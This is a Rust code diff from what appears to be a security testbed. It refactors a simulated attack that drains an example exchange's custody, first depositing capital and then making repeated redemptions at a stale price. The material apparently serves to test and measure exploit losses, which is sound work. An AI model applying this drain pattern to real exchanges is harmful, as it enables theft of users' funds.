@@ -4,6 +4,8 @@
 //! transaction, and nothing would be lost. The loss is what custody pays the attacker, less the deposits that the
 //! attacker gives up for it. The attacker's deposits that remain in custody are not subtracted from the loss.
 
+use anchor_lang::{prelude::Pubkey, solana_program::instruction::Instruction};
+use bulkhead_testbed::Exchange;
 use example_exchange::constants::STALE_PRICE;
 use solana_signer::Signer;
 
@@ -33,18 +35,16 @@ pub(super) fn attack(
     // The bug pays `STALE_PRICE` for one: this much capital empties custody, including the capital itself.
     let capital = attack_outcome.custody_before / (STALE_PRICE - 1);
     let step = attack_outcome.custody_before / 10_000 * facts.step_bps / STALE_PRICE;
-    let last = capital - step * (facts.redemptions - 1);
     let index = stage.next_release();
     let attacker = stage.attacker.insecure_clone();
     let owner = attacker.pubkey();
-    let mut steps = vec![stage.exchange.deposit(owner, stage.attacker_tokens, capital)];
-    for amount in std::iter::repeat_n(step, usize::try_from(facts.redemptions - 1).unwrap_or(0)).chain([last]) {
-        steps.push(
-            stage
-                .exchange
-                .redeem_at_stale_price(owner, stage.attacker_tokens, amount, index),
-        );
-    }
+    let steps = empty(
+        &stage.exchange,
+        (owner, stage.attacker_tokens),
+        capital,
+        (step, facts.redemptions - 1),
+        index,
+    );
     let before = stage.attacker_tokens();
     recorder.begin(&stage.machine);
     stage
@@ -80,4 +80,21 @@ pub(super) fn attack(
     stage.at(60);
     attack_outcome.sample(stage);
     Ok(attack_outcome)
+}
+
+/// A deposit of `capital`, and redemptions of all of it: `count` of `step`, and the rest at once. `owner` is the key and
+/// its token account.
+pub(super) fn empty(
+    exchange: &Exchange,
+    (owner, tokens): (Pubkey, Pubkey),
+    capital: u64,
+    (step, count): (u64, u64),
+    index: u64,
+) -> Vec<Instruction> {
+    let last = capital - step * count;
+    let mut steps = vec![exchange.deposit(owner, tokens, capital)];
+    for amount in std::iter::repeat_n(step, usize::try_from(count).unwrap_or(0)).chain([last]) {
+        steps.push(exchange.redeem_at_stale_price(owner, tokens, amount, index));
+    }
+    steps
 }
